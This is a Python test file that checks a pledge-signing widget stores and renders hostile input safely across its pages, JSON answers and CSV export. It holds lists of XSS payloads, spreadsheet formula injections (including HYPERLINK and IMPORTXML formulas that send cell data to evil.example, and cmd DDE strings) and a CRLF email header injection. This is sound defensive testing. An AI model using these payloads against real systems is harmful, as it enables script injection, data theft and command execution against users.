"""Hostile input, table-driven: our own XSS and spreadsheet-formula payloads plus every string of
the shared "naughty strings" corpus go into every text field a signer (or a partner's link) can
fill. Each must be stored as typed and shown safely, or refused with a clear message: nothing
executes, nothing survives raw, nothing crashes, no count drifts from its rows.

Pages covered are the ones that exist: the embed page, the re-rendered form, the thank-you page,
the error page and the counter, the JSON answers, and the CSV export. There is no staff dashboard
and no public organisations page yet; SECURITY.md says so.

One app and one database for the whole table (a pledge per payload, so each test's export and
counts are its own), a fake clock instead of waiting, and rate limits off.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sqlite3
import unicodedata
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
from starlette.testclient import TestClient

from tests.conftest import FakeClock, form_token_of, make_partner, make_pledge, on_db
from widget_server.core.signform import MAX_LENGTHS, clean_text, normalise_email
from widget_server.messages import FORM_BAD, TAMPERED, WRONG_SITE
from widget_server.services import admin
from widget_server.settings import Settings
from widget_server.storage.sqlite import queries
from widget_server.storage.sqlite.db import transaction
from widget_server.web.app import create_app

# A copy of shared/corpus/naughty-strings.json (MIT, licence beside it), kept in the repository so
# a newcomer's clone runs the same table as CI.
CORPUS = Path(__file__).resolve().parent / "data" / "naughty-strings.json"


def load_corpus() -> list[str]:
    """The Big List of Naughty Strings; a missing file is a failure, never a skip."""
    if not CORPUS.is_file():
        raise FileNotFoundError(f"The hostile-input corpus is missing: expected {CORPUS}.")
    strings = json.loads(CORPUS.read_text(encoding="utf-8"))
    assert isinstance(strings, list) and len(strings) > 100 and all(isinstance(s, str) for s in strings)
    return strings


XSS = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "javascript:alert(1)",
    '<a href="javascript:alert(1)">Click</a>',
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</h2><script>alert(1)</script><h2>",
    '<iframe src="https://evil.example"></iframe>',
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>Sign</button></form>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "{{ 7*7 }}{% raw %}${7*7}<%= 7*7 %>",
    "\u202eevil.exe\u202c",
    "<3 Smith & Sons",
]
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Click for details")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("https://evil.example/?", A2), "//a")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
]
EMAILS = [
    '"<script>alert(1)</script>"@example.org',
    "ana@example.org<script>alert(1)</script>",
    "=1+1@example.org",
    "+trick@example.org",
    "-minus@example.org",
    "@SUM(1)@example.org",
    "javascript:alert(1)//@example.org",
    "o'brien@example.org",
    "zoë@exämple.org",
    "ana@example.org\r\nBcc: everyone@example.org",
]
PAYLOADS = XSS + FORMULAS + EMAILS + load_corpus()
FIELDS = ("name", "occupation", "organisation")
# What a spreadsheet runs (OWASP), written out here rather than imported, so that a change to
# csvsafe has to convince this test too.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
KNOWN_MESSAGES = {
    "",
    "Please enter your name.",
    "Please enter your email address.",
    "Please enter an email address like name@example.org.",
    *(f"Please keep this to {n} characters or fewer." for n in MAX_LENGTHS.values()),
    FORM_BAD,
    TAMPERED,
}


# ---------------------------------------------------------------- reading pages as a browser would


@dataclass
class Page:
    tags: Counter[str]
    elements: list[tuple[str, dict[str, str | None]]]
    inputs: dict[str, dict[str, str | None]]
    thanks_heading: str


class PageReader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.heading: list[str] | None = None
        self.heading_text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        self.elements.append((tag, found))
        if "data-thanks-heading" in found:
            self.heading = []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag == "h2" and self.heading is not None:
            self.heading_text, self.heading = "".join(self.heading), None

    def handle_data(self, data: str) -> None:
        if self.heading is not None:
            self.heading.append(data)


def read_page(html: str) -> Page:
    reader = PageReader()
    reader.feed(html)
    reader.close()
    inputs = {str(a["name"]): a for t, a in reader.elements if t == "input" and a.get("name")}
    return Page(Counter(t for t, _ in reader.elements), reader.elements, inputs, reader.heading_text)


SAFE_URL_STARTS = ("/", "https://", "mailto:?")


def assert_inert(answer: httpx.Response, baseline: Page, label: str) -> Page:
    """Exactly the elements our template renders, our one script file, no handlers, safe URLs."""
    assert answer.headers["content-type"].startswith("text/html"), label
    page = read_page(answer.text)
    assert page.tags == baseline.tags, f"{label}: elements differ from the template's"
    known_attributes = {name for _, attrs in baseline.elements for name in attrs} | {"aria-invalid", "autofocus"}
    for tag, attrs in page.elements:
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{label}: <{tag} {name}>"
            assert name in known_attributes, f"{label}: <{tag} {name}> is not in our templates"
            if name in ("href", "src", "action", "formaction"):
                assert str(value).startswith(SAFE_URL_STARTS), f"{label}: <{tag} {name}={value!r}>"
        if tag == "script":
            assert attrs == {"src": "/static/frame.js", "defer": None}, label
    policy = answer.headers["content-security-policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy, label
    return page


def assert_json_says_only_our_words(answer: httpx.Response, label: str) -> dict[str, Any]:
    """The JSON answers never echo a signer's text: only statuses, counts and our sentences."""
    assert answer.headers["content-type"] == "application/json", label
    assert "<" not in answer.text, label
    body: dict[str, Any] = answer.json()
    if body.get("status") == "signed":
        assert set(body) == {"status", "total"} and isinstance(body["total"], int), label
    elif body.get("status") == "invalid":
        assert set(body) == {"status", "errors", "message", "form_token"}, label
        assert set(body["errors"]) <= {"name", "email", "occupation", "organisation"}, label
        assert set(body["errors"].values()) <= KNOWN_MESSAGES, label
        assert body["message"] in KNOWN_MESSAGES, label
    else:
        assert set(body) == {"error"} and body["error"]["message"] in KNOWN_MESSAGES, label
    return body


def expected_cell(value: str) -> str:
    return "'" + value if value.startswith(FORMULA_STARTS) else value


def accepted(field: str, value: str) -> bool:
    """Would this cleaned value pass the form's rules (the expectation, stated independently)?"""
    if field == "name" and not value:
        return False
    return len(value) <= MAX_LENGTHS[field]


def too_long(field: str) -> str:
    return f"Please keep this to {MAX_LENGTHS[field]} characters or fewer."


# ---------------------------------------------------------------- one app for the whole table


@dataclass
class World:
    settings: Settings
    client: TestClient
    clock: FakeClock
    embed: Page
    invalid: Page
    thanks: Page
    error: Page
    organisations: Page

    def slug(self, index: int) -> str:
        return f"p-{index:04d}"


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    settings = Settings.from_env(
        environ={},
        data_dir=tmp_path_factory.mktemp("hostile"),
        secret_key="hostile-secret",
        public_url="http://testserver",
        cache_seconds=0.0,
        rate_limit="off",
        partner_rate_limit="off",
    )

    async def pledges() -> None:
        async with admin.open_db(settings) as conn, transaction(conn):
            for index in range(len(PAYLOADS) + 1):
                await admin.add_pledge(
                    conn, slug=f"p-{index:04d}", title="Keep our data safe", statement_html="<p>We ask.</p>"
                )

    asyncio.run(pledges())
    clock = FakeClock()
    with TestClient(create_app(settings, clock=clock)) as client:
        # Baselines: the same pages rendered for honest input, to compare hostile ones with.
        slug = f"p-{len(PAYLOADS):04d}"
        embed = client.get(f"/embed/{slug}", params={"source": "newsletter"})
        form = form_token_of(embed.text)
        clock.advance(5)
        invalid = client.post(f"/embed/{slug}/sign", data={"name": "Ana", "form_token": form})
        honest = {"name": "Ana", "email": "ana@example.org", "form_token": form}
        thanks = client.post(f"/embed/{slug}/sign", data=honest)
        error = client.get(f"/embed/{slug}", params={"token": "forged"})
        assert (embed.status_code, invalid.status_code, thanks.status_code, error.status_code) == (200, 400, 200, 403)
        clock.advance(5)
        client.post(f"/embed/{slug}/sign", data={**honest, "email": "org@example.org", "organisation": "Hill School"})
        approve(settings, slug, "Hill School")
        organisations = client.get(f"/pledge/{slug}/organisations")
        assert "<li>Hill School</li>" in organisations.text
        yield World(
            settings, client, clock, read_page(embed.text), read_page(invalid.text), read_page(thanks.text),
            read_page(error.text), read_page(organisations.text),
        )


def approve(settings: Settings, slug: str, name: str) -> None:
    on_db(settings, lambda conn: admin.review_organisation(conn, slug, name, "approved"))


def export(settings: Settings, slug: str) -> list[dict[str, str]]:
    async def go() -> str:
        out = io.StringIO()
        async with admin.open_db(settings) as conn:
            await admin.export_csv(conn, slug, out)
        return out.getvalue()

    return list(csv.DictReader(io.StringIO(asyncio.run(go()), newline="")))


def stored(settings: Settings, slug: str) -> list[sqlite3.Row]:
    conn = sqlite3.connect(settings.database)
    conn.row_factory = sqlite3.Row
    try:
        return conn.execute(
            "SELECT s.* FROM signatures s JOIN pledges p ON p.id = s.pledge_id WHERE p.slug = ? ORDER BY s.id",
            (slug,),
        ).fetchall()
    finally:
        conn.close()


def integrity(settings: Settings) -> list[str]:
    return on_db(settings, queries.integrity)


# ---------------------------------------------------------------- the table


@pytest.mark.parametrize("index", range(len(PAYLOADS)), ids=lambda i: f"payload-{i:03d}")
def test_every_payload_is_stored_as_typed_and_shown_safely_or_refused(world: World, index: int) -> None:
    payload = PAYLOADS[index]
    clean = clean_text(payload)
    assert not any(unicodedata.category(c) == "Cc" for c in clean)  # no control characters kept
    client, slug = world.client, world.slug(index)
    sign_url = f"/embed/{slug}/sign"
    label = f"payload {index} {payload!r}"

    # A partner's link can carry anything in its campaign tags; they travel in the form token.
    page = client.get(f"/embed/{slug}", params={"source": payload, "utm_content": payload})
    assert page.status_code == 200, label
    assert_inert(page, world.embed, label)
    form = form_token_of(page.text)
    world.clock.advance(5)

    # Every text field at once, with the email missing: the form comes back with all of it kept.
    again = client.post(sign_url, data={**dict.fromkeys(FIELDS, payload), "email": "", "form_token": form})
    assert again.status_code == 400, label
    kept = assert_inert(again, world.invalid, label)
    for field in FIELDS:
        assert kept.inputs[field]["value"] == clean, f"{label}: {field} not kept exactly"
    assert kept.inputs["email"]["aria-invalid"] == "true"

    expected_rows: list[dict[str, str]] = []

    # The name, through the no-JavaScript path: the thank-you page shows it.
    email = f"name-{index}@signers.example"
    answer = client.post(sign_url, data={"name": payload, "email": email, "form_token": form})
    if accepted("name", clean):
        assert answer.status_code == 200, label
        thanks = assert_inert(answer, world.thanks, label)
        assert thanks.thanks_heading == f"Thank you, {clean}. You have signed.", label
        expected_rows.append({"email": email, "name": clean})
    else:
        assert answer.status_code == 400, label
        refused = assert_inert(answer, world.invalid, label)
        assert refused.inputs["name"]["aria-invalid"] == "true", label
        message = "Please enter your name." if not clean else too_long("name")
        assert message in answer.text, label

    # Occupation and organisation, through the enhanced (JSON) path.
    for field in ("occupation", "organisation"):
        email = f"{field}-{index}@signers.example"
        data = {"name": "Sam Signer", "email": email, field: payload, "form_token": form}
        answer = client.post(sign_url, data=data, headers={"Accept": "application/json"})
        body = assert_json_says_only_our_words(answer, label)
        if accepted(field, clean):
            assert (answer.status_code, body["status"]) == (200, "signed"), label
            expected_rows.append({"email": email, "name": "Sam Signer", field: clean})
        else:
            assert answer.status_code == 400, label
            assert body["errors"] == {field: too_long(field)}, label

    # Anything shaped like an email address goes in the email field too.
    if "@" in payload:
        data = {"name": "Eve Mail", "email": payload, "form_token": form}
        answer = client.post(sign_url, data=data, headers={"Accept": "application/json"})
        body = assert_json_says_only_our_words(answer, label)
        if answer.status_code == 200:
            expected_rows.append({"email": normalise_email(payload), "name": "Eve Mail"})
        else:
            assert answer.status_code == 400, label
            assert set(body["errors"]) == {"email"}, label

    # The token fields and the embedding origin take the payload too: refused, never a crash.
    forged = client.post(sign_url, data={"name": "Ann", "email": "x@signers.example", "form_token": payload})
    assert forged.status_code == 400, label
    assert_inert(forged, world.error, label)
    forged_json = client.post(sign_url, data={"form_token": payload}, headers={"Accept": "application/json"})
    assert assert_json_says_only_our_words(forged_json, label) == {"error": {"status": 400, "message": FORM_BAD}}
    as_token = client.get(f"/embed/{slug}", params={"token": payload})
    count = client.get(f"/api/pledges/{slug}/count", params={"token": payload})
    as_parent = client.get(f"/embed/{slug}", params={"parent": payload})
    if payload == "":
        assert (as_token.status_code, count.status_code, as_parent.status_code) == (200, 200, 200), label
    else:
        assert as_token.status_code == count.status_code == 403, label
        assert_inert(as_token, world.error, label)
        assert_json_says_only_our_words(count, label)
        assert as_parent.status_code == 403, label
        assert_inert(as_parent, world.error, label)
        assert WRONG_SITE.replace("'", "&#39;") in as_parent.text
        assert "frame-ancestors 'none'" in as_parent.headers["content-security-policy"], label

    # Once staff approve it, the organisation is listed in public: escaped, exactly as typed.
    if accepted("organisation", clean) and clean:
        approve(world.settings, slug, clean)
        listed = client.get(f"/pledge/{slug}/organisations")
        assert listed.status_code == 200, label
        assert_inert(listed, world.organisations, label)
        assert client.get(f"/api/pledges/{slug}/organisations").json() == {"organisations": [clean]}, label

    # Stored exactly as cleaned, and exported with formulas neutralised and nothing else changed.
    attribution = clean[:100]
    rows = stored(world.settings, slug)
    columns = ("email", "name", "occupation", "organisation")
    assert [{c: r[c] for c in columns} for r in rows] == [
        {"occupation": "", "organisation": "", **row} for row in expected_rows
    ], label
    assert all((r["source"], r["utm_content"]) == (attribution, attribution) for r in rows), label
    exported = export(world.settings, slug)
    assert len(exported) == len(rows), label
    for row, cells in zip(rows, exported, strict=True):
        for column in ("email", "name", "occupation", "organisation", "source", "utm_content"):
            assert cells[column] == expected_cell(row[column]), f"{label}: CSV {column}"
            assert not cells[column].startswith(FORMULA_STARTS), f"{label}: CSV {column}"
    assert integrity(world.settings) == [], label
    assert client.get(f"/api/pledges/{slug}/count").json() == {"total": len(rows)}, label


def test_staff_written_plain_text_is_escaped_too(settings, make_client, clock) -> None:  # type: ignore[no-untyped-def]
    """The pledge title and a partner's name are plain text as well: escaped wherever shown."""
    title = '</title><script>alert("title")</script>'
    partner_name = "<img src=x onerror=alert('partner')> & Co"
    make_pledge(settings, title=title, contact="<a href=javascript:alert(1)>call us</a>")
    token = make_partner(settings, name=partner_name).token
    client = make_client(settings, rate_limit="off")
    pages = {
        "embed": client.get("/embed/data-firewall", params={"token": token}),
        "counter": client.get("/embed/data-firewall/counter", params={"token": token}),
        "privacy": client.get("/pledge/data-firewall/privacy"),
    }
    clock.advance(5)
    form = form_token_of(pages["embed"].text)
    pages["thanks"] = client.post(
        "/embed/data-firewall/sign", data={"name": "Ana", "email": "ana@example.org", "form_token": form}
    )
    for label, answer in pages.items():
        assert answer.status_code == 200, label
        page = read_page(answer.text)
        scripts = [attrs for tag, attrs in page.elements if tag == "script"]
        assert scripts == [{"src": "/static/frame.js", "defer": None}], label
        assert "img" not in page.tags, label
        assert not any(name.startswith("on") for _, attrs in page.elements for name in attrs), label
        assert not any(
            str(attrs.get("href", "")).startswith("javascript:") for _, attrs in page.elements
        ), label
        assert "<script>alert" not in answer.text and "<img src=x" not in answer.text, label
    assert "&lt;img src=x onerror=alert(&#39;partner&#39;)&gt; &amp; Co may contact me" in pages["embed"].text
